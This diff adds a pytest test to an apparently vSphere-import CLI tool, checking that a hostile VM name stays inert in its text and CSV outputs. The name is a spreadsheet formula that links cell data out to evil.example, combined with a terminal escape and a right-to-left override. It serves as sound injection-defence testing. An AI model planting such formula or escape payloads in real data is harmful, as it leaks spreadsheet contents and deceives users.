@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import vnetbench_vsphere.inventory as inventory
 from pyVmomi import vim
 from vnetbench.cli.main import main
@@ -94,3 +97,27 @@ def test_cli_import_writes_a_design(backend, vcsim, tmp_path, capsys):
     assert code == 0, capsys.readouterr().err
     topo = load(out)
     assert topo.name == "DC import" and len(topo.hosts) == 4
+
+
+def test_a_hostile_vm_name_from_vcenter_stays_data_in_every_output(backend, vcsim, tmp_path, capsys):
+    """A VM named like a spreadsheet formula with a terminal escape and a right-to-left override in vCenter
+    reaches a design through import as it is; the filters sit at the outputs (issue 33), so ``show``,
+    ``matrix --csv`` and the ``matrix-csv`` export keep it data."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")\x9b2J\u202e'  # SOAP (XML) carries C1, not C0
+    vcsim.govc("object.rename", "/DC0/vm/DC0_H0_VM0", hostile)
+    out = tmp_path / "imported.vnet.yaml"
+    assert main(["import", "--backend", "vsphere", "--url", vcsim.url, "--user", vcsim.user,
+                 "--set", f"pin_file={backend.settings['pin_file']}", "-o", str(out)]) == 0
+    capsys.readouterr()
+    assert hostile in [vm.name for vm in load(out).vms]  # import keeps names as they are: filters sit at outputs
+    main(["show", str(out)])
+    shown = capsys.readouterr().out
+    assert "\x9b" not in shown and "\u202e" not in shown
+    assert '=HYPERLINK("http://evil.example/?"&A1,"click")\\x9b2J\\u202e' in shown
+    main(["matrix", "--csv", str(out)])
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
+    exported = tmp_path / "m.csv"
+    assert main(["export", str(out), "--format", "matrix-csv", "-o", str(exported)]) == 0
+    cells += [c for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8"), newline="")) for c in row]
+    named = [c for c in cells if "HYPERLINK" in c]
+    assert named and all(c.startswith("'=HYPERLINK") and "\x9b" not in c and "\u202e" not in c for c in named)
